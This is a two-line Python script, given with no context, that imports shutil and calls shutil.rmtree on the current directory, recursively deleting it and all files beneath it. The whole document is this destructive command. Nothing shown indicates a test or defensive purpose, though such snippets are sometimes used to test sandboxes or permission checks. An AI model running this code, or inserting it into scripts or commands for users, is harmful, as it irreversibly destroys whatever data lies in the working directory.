import shutil
shutil.rmtree(".")
